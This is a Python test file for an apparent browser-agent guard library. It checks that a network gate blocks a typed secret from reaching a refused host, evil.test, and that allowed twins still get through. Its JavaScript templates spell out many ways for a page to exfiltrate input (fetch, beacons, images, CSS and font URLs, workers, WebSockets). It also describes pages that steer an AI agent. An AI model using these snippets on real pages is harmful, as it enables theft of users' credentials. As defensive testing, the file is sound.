"""The navigation gate judges every request, not only navigations: with no proxy, a page (or a
page whose text steered the agent) that sends what the agent typed to a host the policies'
domain rules refuse — by fetch, XHR, an image, a beacon, a prefetch, a stylesheet, a font, CSS
``url()``, a script, EventSource, a websocket, a worker's fetch, a hyperlink-auditing ping —
reaches nothing: the local server's request log shows no request to evil.test. Each refusal is
a ``network`` event (``layer: "gate"``); subresource refusals are not raised to the agent (as
with the network layer), a refused websocket is. The benign twins (the same request to a host
the policies allow) arrive; a guard whose policies have no domain rule installs no gate.
Real Chromium over 127.0.0.1.
"""

from __future__ import annotations

import itertools
from typing import Any

import pytest
from playwright.async_api import Page

from pagewarden import ActionBlocked, Guard, PolicySet
from pagewarden.testing import LocalSite, Response

from .test_gate_hops import POLICIES, _reached, _until

_COUNTER = itertools.count()

#: one way a page's script sends data to `{D}` (a host) with the mark `{M}` in the query
ROUTES: dict[str, str] = {
    "fetch": "fetch('http://{D}/x?c={M}&d=' + v).catch(() => {});",
    "fetch_post": "fetch('http://{D}/x?c={M}', {method: 'POST', body: v, mode: 'no-cors', keepalive: true})"
    ".catch(() => {});",
    "xhr": "const x = new XMLHttpRequest(); x.open('POST', 'http://{D}/x?c={M}'); x.send(v);",
    "image": "new Image().src = 'http://{D}/i.png?c={M}&d=' + v;",
    "beacon": "navigator.sendBeacon('http://{D}/b?c={M}', v);",
    "prefetch": "const l = document.createElement('link'); l.rel = 'prefetch';"
    " l.href = 'http://{D}/p?c={M}&d=' + v; document.head.append(l);",
    "stylesheet": "const l = document.createElement('link'); l.rel = 'stylesheet';"
    " l.href = 'http://{D}/s.css?c={M}&d=' + v; document.head.append(l);",
    "css_url": "const e = document.createElement('div'); e.style.cssText ="
    " 'width:10px;height:10px;background-image:url(http://{D}/bg.png?c={M}&d=' + v + ')';"
    " document.body.append(e);",
    "font": "const s = document.createElement('style'); s.textContent = '@font-face {font-family: xf;"
    " src: url(http://{D}/f.woff?c={M}&d=' + v + ')} #ft {font-family: xf}';"
    " document.head.append(s); const e = document.createElement('p'); e.id = 'ft';"
    " e.textContent = 'text'; document.body.append(e);",
    "script": "const s = document.createElement('script'); s.src = 'http://{D}/j.js?c={M}&d=' + v;"
    " document.head.append(s);",
    "eventsource": "const es = new EventSource('http://{D}/es?c={M}&d=' + v);"
    " setTimeout(() => es.close(), 300);",
    "worker_fetch": "new Worker(URL.createObjectURL(new Blob([\"fetch('http://{D}/w?c={M}&d=\" + v + \"')"
    ".catch(() => {})\"], {type: 'text/javascript'})));",
    "shared_worker": "new SharedWorker(URL.createObjectURL(new Blob("
    "[\"fetch('http://{D}/sw?c={M}&d=\" + v + \"')"
    ".catch(() => {})\"], {type: 'text/javascript'})));",
    "module_import": "import('http://{D}/m.js?c={M}&d=' + v).catch(() => {});",
    "srcset": "const i = document.createElement('img'); i.srcset = 'http://{D}/s.png?c={M}&d=' + v + ' 1x';"
    " document.body.append(i);",
    "video_poster": "const p = document.createElement('video'); p.poster = 'http://{D}/v.png?c={M}&d=' + v;"
    " document.body.append(p);",
    "ping": "const a = document.createElement('a'); a.href = '#done'; a.ping = 'http://{D}/ping?c={M}';"
    " document.body.append(a); a.click();",
}
PAGE = """<!doctype html><body><label>Token <input id="secret" name="token"></label>
<script>
document.getElementById("secret").addEventListener("input", (ev) => {
  if (ev.target.value.length < 8) return;
  const v = encodeURIComponent(ev.target.value);
  {R}
});
</script></body>"""
SECRET = "PWSECRET-egress-4711"


def _serve(site: LocalSite, route: str, dest: str, mark: str) -> str:
    path = f"/egress/{next(_COUNTER)}.html"
    html = PAGE.replace("{R}", ROUTES[route].replace("{D}", dest).replace("{M}", mark))
    site.route("app.test", path, lambda _r: Response(html))
    return f"http://app.test{path}"


def _gate_events(events: list[Any]) -> list[dict[str, Any]]:
    return [e.data for e in events if e.kind == "network" and e.data.get("layer") == "gate"]


#: Refused inside a worker that inherits the document's policy (a ``blob:`` worker): Chromium
#: reports the violation to the worker only, so the refusal is no event of the gate.
SILENT = {"worker_fetch", "shared_worker"}
#: Known gaps (strict xfail: the test fails once the gap closes). None left: a ``blob:`` shared
#: worker inherits the gate's policy (`pagewarden.interceptors._csp`).
GAPS: set[str] = set()
_GAP = pytest.mark.xfail(strict=True, reason="a known gap")


@pytest.mark.parametrize("route", [pytest.param(r, marks=_GAP) if r in GAPS else r for r in sorted(ROUTES)])
async def test_a_typed_secret_never_leaves_by_any_route(page: Page, site: LocalSite, route: str) -> None:
    before = len(site.requests)
    guard = Guard(POLICIES, goal="Log in to the app.")
    guard.add_secret(SECRET, allow_domains=["app.test"])
    events: list[Any] = []
    guard.subscribe(events.append)
    guarded = guard.wrap(page)
    mark = f"egress-{route}"
    await guarded.goto(_serve(site, route, "evil.test", mark))
    await guarded.fill("#secret", SECRET)  # a same-site field: allowed; the page's handler runs
    if route not in SILENT and route not in GAPS:  # the refusal's event first, then the window
        assert await _until(lambda: any(e["host"] == "evil.test" for e in _gate_events(events)))
    await page.wait_for_timeout(800)  # the window in which nothing may reach the refused host
    if route in GAPS:  # the gap: it arrives (waited for, so that the strict xfail is not flaky)
        await _until(lambda: bool(_reached(site, "evil.test", mark)))
    assert _reached(site, "evil.test", mark) == []
    sent = [r for r in site.requests[before:] if SECRET.encode() in r.body or SECRET in str(r.query)]
    assert [r for r in sent if r.host != "app.test"] == []
    refused = [e for e in _gate_events(events) if e["host"] == "evil.test"]
    if route not in SILENT:
        assert refused, "the refusal is a network event of the gate"
    assert all(SECRET not in str(e) for e in _gate_events(events)), "the event is redacted"
    # a refused subresource is an event only: the agent's next action runs
    await guarded.hover("body")


@pytest.mark.parametrize("route", sorted(ROUTES))
async def test_the_allowed_twin_arrives(page: Page, site: LocalSite, route: str) -> None:
    guard = Guard(POLICIES, goal="Log in to the app.")
    events: list[Any] = []
    guard.subscribe(events.append)
    guarded = guard.wrap(page)
    mark = f"egress-twin-{route}"
    await guarded.goto(_serve(site, route, "other.test", mark))
    await guarded.fill("#secret", "hello-world-123")
    assert await _until(lambda: bool(_reached(site, "other.test", mark)))
    assert _gate_events(events) == []


WS_PAGE = """<!doctype html><body><input id="secret">
<script>
window.wsEvents = [];
document.getElementById("secret").addEventListener("input", (ev) => {
  if (ev.target.value.length < 8) return;
  const ws = new WebSocket("ws://{D}/ws?c={M}&d=" + encodeURIComponent(ev.target.value));
  ws.onopen = () => { window.wsEvents.push("open"); ws.send(ev.target.value); };
  ws.onerror = () => window.wsEvents.push("error");
  ws.onclose = (c) => window.wsEvents.push("close " + c.code);
});
</script></body>"""


def _serve_ws(site: LocalSite, dest: str, mark: str) -> str:
    path = f"/egress-ws/{next(_COUNTER)}.html"
    html = WS_PAGE.replace("{D}", dest).replace("{M}", mark)
    site.route("app.test", path, lambda _r: Response(html))
    return f"http://app.test{path}"


async def test_a_websocket_to_a_refused_host_never_connects_and_the_agent_hears(
    page: Page, site: LocalSite
) -> None:
    guard = Guard(POLICIES, goal="Log in to the app.")
    events: list[Any] = []
    guard.subscribe(events.append)
    guarded = guard.wrap(page)
    mark = "egress-ws"
    await guarded.goto(_serve_ws(site, "evil.test", mark))
    await guarded.fill("#secret", "typed-value-123")
    assert await _until(lambda: bool(_gate_events(events)))
    await page.wait_for_timeout(300)
    assert _reached(site, "evil.test", mark) == []
    assert [e["action"] for e in _gate_events(events)] == ["websocket"]
    assert "open" not in await page.evaluate("window.wsEvents")
    with pytest.raises(ActionBlocked) as caught:
        await guarded.hover("body")
    assert caught.value.verdict.findings[0].evidence["action"] == "websocket"
    assert caught.value.verdict.findings[0].rule == "network:domain_allow"
    await guarded.hover("body")  # heard once


async def test_a_websocket_to_an_allowed_host_still_connects(page: Page, site: LocalSite) -> None:
    guard = Guard(POLICIES, goal="Log in to the app.")
    guarded = guard.wrap(page)
    mark = "egress-ws-twin"
    await guarded.goto(_serve_ws(site, "other.test", mark))
    await guarded.fill("#secret", "typed-value-123")
    assert await _until(lambda: bool(_reached(site, "other.test", mark)))
    assert _reached(site, "other.test", mark)[0].headers.get("Upgrade", "").lower() == "websocket"
    await guarded.hover("body")


async def test_no_domain_rule_no_gate_and_no_routes(page: Page, site: LocalSite) -> None:
    """Policies without URL or domain rules: nothing is routed, websockets are not mocked, and
    requests anywhere go straight out (the guard pays nothing for them)."""
    policies = PolicySet.from_dict(
        {
            "version": 1,
            "policies": [
                {
                    "id": "T-x",
                    "category": "boundary",
                    "risk_level": "high",
                    "description": "Never press delete.",
                    "rules": [{"forbid_element": {"match": ["delete everything"]}}],
                }
            ],
        }
    )
    guarded = Guard(policies, goal="Use the app.").wrap(page)
    mark = "egress-no-gate"
    await guarded.goto(_serve(site, "fetch", "evil.test", mark))
    await guarded.fill("#secret", "hello-world-123")
    assert await _until(lambda: bool(_reached(site, "evil.test", mark)))
    gate = guarded._pw_shared.gate  # it judges downloads only: no request is routed
    assert gate is not None and gate.pattern is None and gate.websocket_pattern is None
    raw = page.context._impl_obj  # type: ignore[attr-defined]
    assert raw._routes == [] and raw._web_socket_routes == []


SW = (
    "self.addEventListener('install', () => { fetch('http://{D}/sw-install?c={M}').catch(() => {});"
    " self.skipWaiting(); });"
)
SW_PAGE = """<!doctype html><script>
window.registered = navigator.serviceWorker.register('/sw-{M}.js').then(() => 'registered', (e) => 'refused');
</script>"""


@pytest.mark.parametrize("policies", ["domain_allow", "domain_deny", "none"])
async def test_launch_without_the_proxy_judges_service_workers_requests(
    site: LocalSite, policies: str
) -> None:
    """A service worker registers and runs under `launch(proxy=False)` (the page served from
    127.0.0.1, a secure context where a page may register one); its own request to a host the
    policies refuse never leaves (Playwright's routes see a service worker's requests, the gate's
    Content-Security-Policy comes with its script), one to a host they allow does."""
    from pagewarden import launch

    mark = f"egress-sw-{policies}"
    site.route("127.0.0.1", f"/sw-{mark}.js", lambda _r: Response(
        SW.replace("{D}", "evil.test").replace("{M}", mark), content_type="text/javascript"))  # fmt: skip
    site.route("127.0.0.1", f"/{mark}", lambda _r: Response(SW_PAGE.replace("{M}", mark)))
    rules = {
        "domain_allow": [{"domain_allow": ["127.0.0.1", "app.test"]}],
        "domain_deny": [{"domain_deny": ["evil.test"]}],
        "none": [],
    }[policies]
    chosen = PolicySet.from_dict({"version": 1, "policies": [
        {"id": "T-sw", "category": "boundary", "risk_level": "high", "description": "Where the agent may go.",
         "rules": rules}]} if rules else {"version": 1, "policies": []})  # fmt: skip
    async with launch(policies=chosen, goal="Use the app.", host_map={"*.test": site.port}) as guarded:
        await guarded.goto(f"http://127.0.0.1:{site.port}/{mark}")
        raw = guarded._pw_obj  # the page itself (the test's reads are not the agent's actions)
        assert await raw.evaluate("window.registered") == "registered"
        assert await raw.evaluate("navigator.serviceWorker.ready.then(() => 'ready')") == "ready"
        if policies != "none":
            assert _reached(site, "evil.test", mark) == []
            await raw.wait_for_timeout(800)
            assert _reached(site, "evil.test", mark) == []
        else:
            assert await _until(lambda: bool(_reached(site, "evil.test", mark)))


@pytest.mark.parametrize("policies", ["domain_allow", "domain_deny", "none"])
async def test_launch_without_the_proxy_judges_shared_workers_requests(
    site: LocalSite, policies: str
) -> None:
    """A page under `launch(proxy=False)` has `SharedWorker`; a shared worker's request to a host
    the policies refuse never leaves (an allow-list: the gate's Content-Security-Policy, which a
    ``blob:`` worker has from its creator and a worker from a URL gets with its script; a denied
    host: the gate's DevTools session refuses it), one they allow does."""
    from pagewarden import launch

    deny = {"id": "T-deny", "category": "boundary", "risk_level": "high", "description": "No evil.",
            "rules": [{"domain_deny": ["evil.test"]}]}  # fmt: skip
    chosen = {
        "domain_allow": POLICIES,
        "domain_deny": PolicySet.from_dict({"version": 1, "policies": [deny]}),
        "none": PolicySet.from_dict({"version": 1, "policies": []}),
    }[policies]
    mark = f"egress-launch-shared-{policies}"
    async with launch(policies=chosen, goal="Use the app.", host_map={"*.test": site.port}) as guarded:
        await guarded.goto(_serve(site, "shared_worker", "evil.test", mark))
        assert await guarded._pw_obj.evaluate("typeof SharedWorker") == "function"
        await guarded.fill("#secret", "hello-world-123")
        if policies != "none":
            await guarded._pw_obj.wait_for_timeout(800)
            assert _reached(site, "evil.test", mark) == []
        else:
            assert await _until(lambda: bool(_reached(site, "evil.test", mark)))


async def test_requests_to_allowed_hosts_never_reach_python(page: Page, site: LocalSite) -> None:
    """The route's pattern keeps requests to allowed hosts inside Playwright's driver: a page
    with 30 images, a fetch and a websocket on allowed hosts and one image on a refused host
    makes the gate judge exactly one request."""
    guard = Guard(POLICIES, goal="Use the app.")
    guarded = guard.wrap(page)
    gate = guarded._pw_shared.gate
    assert gate is not None
    judged: list[str] = []
    judge, judge_ws = gate.judge, gate.judge_websocket
    gate.judge = lambda request: judged.append(str(request.url)) or judge(request)  # type: ignore[method-assign]
    gate.judge_websocket = lambda url: judged.append(url) or judge_ws(url)  # type: ignore[method-assign]
    hosts = ("app.test", "other.test")
    images = "".join(f'<img src="http://{h}/i{i}.png?c=allowed-count">' for i in range(15) for h in hosts)
    body = (
        f"{images}<img src='http://evil.test/x.png?c=allowed-count'>"
        "<script>fetch('http://other.test/f?c=allowed-count');"
        " new WebSocket('ws://other.test/ws?c=allowed-count');</script>"
    )
    path = f"/egress-count/{next(_COUNTER)}.html"
    site.route("app.test", path, lambda _r: Response(f"<!doctype html><body>{body}</body>"))
    await guarded.goto(f"http://app.test{path}")
    assert await _until(lambda: len(_reached(site, "other.test", "allowed-count")) >= 17)
    assert judged == ["http://evil.test/x.png?c=allowed-count"]
